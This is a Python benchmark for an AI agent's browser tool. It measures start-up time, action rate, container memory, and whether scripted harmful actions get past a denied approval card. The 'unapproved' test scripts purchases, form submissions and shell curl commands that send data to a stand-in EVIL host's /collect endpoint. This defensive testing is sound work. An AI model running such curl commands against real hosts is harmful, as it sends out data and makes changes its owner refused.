"""Browsers: how soon one is at work, what an action costs, what it holds, and what gets out unseen.

Run with `python -m bench.browser`; it needs the images and takes two minutes.
"""

from __future__ import annotations

import asyncio
import shutil
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import TYPE_CHECKING

import docker

from bench.results import save
from executors.images import image_tag, project_root
from tests.support.browsing import browse, click, do, on, open_page
from tests.support.services import RunningPostgres, RunningValkey
from tests.support.sites import EVIL, SHOP, Sites
from tests.support.world import a_world

if TYPE_CHECKING:
    from tests.support.world import World

Figures = dict[str, tuple[float | int | None, str, str]]
ROUNDS = 3
ACTIONS = 25
WITHIN_S = 90.0
BARE = (
    "/usr/lib/chromium/chromium --headless=new --no-sandbox --disable-gpu --user-data-dir=/tmp/p "
)
CARD = "asks for your approval"


def bare() -> float:
    """Seconds until Chromium alone has shown an empty page, in the same image and limits."""
    client = docker.from_env(timeout=120)
    tag = image_tag(project_root(), "browser")
    taken = []
    for _ in range(ROUNDS):
        began = time.monotonic()
        client.containers.run(
            tag, ["sh", "-c", f"{BARE} --dump-dom about:blank"], remove=True, network_mode="none",
            read_only=True, cap_drop=["ALL"], tmpfs={"/tmp": "size=256m,mode=1777"},
            environment={"HOME": "/tmp"}, shm_size="256m", mem_limit="1g",
        )  # fmt: skip
        taken.append(time.monotonic() - began)
    client.close()
    return statistics.median(taken)


async def until_opened(world: World, sites: Sites) -> float:
    """Seconds from the owner's message to the first request at the site."""
    world.model.script = browse("see the shop", open_page(f"https://{SHOP}/"))
    known, began = len(sites.gets), time.monotonic()
    world.says("please see the shop")
    async with asyncio.timeout(WITHIN_S):
        while len(sites.gets) == known:
            await asyncio.sleep(0.005)
    taken = time.monotonic() - began
    await asyncio.sleep(3)  # its end, and a new warm one
    return taken


async def actions(world: World) -> tuple[float, float]:
    """Actions a second through the whole product, and MB that the browser's container holds."""
    fill = on("type_text", 'textbox "Name"', text="Ada")
    world.model.script = browse(
        "fill it", open_page(f"https://{SHOP}/form"), *[fill] * ACTIONS, do("wait", seconds=5)
    )
    known = len(world.model.requests)
    world.says("please fill it")
    async with asyncio.timeout(WITHIN_S):
        while len(world.model.requests) < known + ACTIONS + 4:
            await asyncio.sleep(0.02)
    held = await asyncio.to_thread(memory)
    times = [at for at, _, _ in world.model.requests[known:]]
    return ACTIONS / (times[ACTIONS + 3] - times[3]), held


def memory() -> float:
    """MB of the largest container of the browser's image."""
    client = docker.from_env(timeout=60)
    found = client.containers.list(filters={"ancestor": image_tag(project_root(), "browser")})
    sizes = [
        usage["usage"] - usage.get("stats", {}).get("total_inactive_file", 0)
        for usage in (c.stats(stream=False)["memory_stats"] for c in found)
        if "usage" in usage
    ]
    client.close()
    return max(sizes, default=0) / 1024 / 1024


async def unapproved(world: World, sites: Sites) -> int:
    """Changes that reached a site while the owner said no to every card."""
    post = "curl -sS -m 20 -X {} -d x=1 https://{}/collect"
    world.model.script = browse(
        "do harm", open_page(f"https://{SHOP}/cart"), click('button "Buy now"'),
        open_page(f"https://{SHOP}/app"), on("type_text", "New", text="x"), click('button "Add"'),
        open_page(f"https://{SHOP}/news"), on("type_text", "textbox", text="all"),
        click("Send feedback"), open_page(f"https://{EVIL}/x"),
        *[
            do("shell", command=post.format(method, host))
            for method in ("POST", "PUT", "DELETE") for host in (SHOP, EVIL)
        ],
    )  # fmt: skip
    world.says("please do harm")
    pressed: set[int] = set()
    async with asyncio.timeout(3 * WITHIN_S):
        while not any("do harm" in text and " done" in text for text in world.chat()):
            for shown in world.telegram.bot_messages():
                if CARD in shown.text and shown.id not in pressed and shown.buttons:
                    pressed.add(shown.id)
                    world.telegram.person.press(shown.id, "Deny")
            await asyncio.sleep(0.05)
    return len(sites.posts) + len(sites.evil)


async def measure() -> Figures:
    """All figures."""
    home = Path(tempfile.mkdtemp(prefix="agentai-browser-"))
    servers = [Path(tempfile.mkdtemp(prefix="agentai-bench-", dir="/var/tmp")) for _ in range(2)]
    postgres, valkey = RunningPostgres(servers[0]), RunningValkey(servers[1])
    sites = Sites(home / "sites")
    await sites.start()
    try:
        async with a_world(home, postgres.fresh_database(), valkey.url) as world:
            world.env |= sites.environment()
            await world.start()
            return await in_world(world, sites)
    finally:
        await sites.stop()
        valkey.close()
        postgres.close()
        for folder in (*servers, home):
            shutil.rmtree(folder, ignore_errors=True)


async def in_world(world: World, sites: Sites) -> Figures:
    """What is measured through the whole product."""
    world.says(f"/grant {SHOP}")
    await world.sees(f"All tasks may reach {SHOP} now: reading.")
    await until_opened(world, sites)  # the proof of isolation belongs to the first one
    cold = [await until_opened(world, sites) for _ in range(ROUNDS)]
    world.says("/config pool.browser 1")
    await asyncio.sleep(8)
    warm = [await until_opened(world, sites) for _ in range(ROUNDS)]
    rate, held = await actions(world)
    sent = await unapproved(world, sites)
    return {
        "browser_cold_s": (statistics.median(cold), "s", "message to first request, nothing warm"),
        "browser_warm_s": (statistics.median(warm), "s", "the same with a warm browser"),
        "browser_actions_per_s": (rate, "1/s", "texts typed, each with its model call"),
        "browser_memory_mb": (held, "MB", "memory of a browser's container with a page open"),
        "browser_unapproved_submits": (sent, "requests", "changes that got out, every card denied"),
    }  # fmt: skip


def main() -> int:
    """Measures and writes `bench/results/browser.json`."""
    alone = bare()
    figures = asyncio.run(measure())
    figures["chromium_bare_s"] = (
        alone,
        "s",
        "Chromium alone in the same image, container included",
    )
    for name, (value, unit, _) in figures.items():
        print(f"{name}: {value} {unit}")
    save("browser", figures)
    return 0


if __name__ == "__main__":
    sys.exit(main())
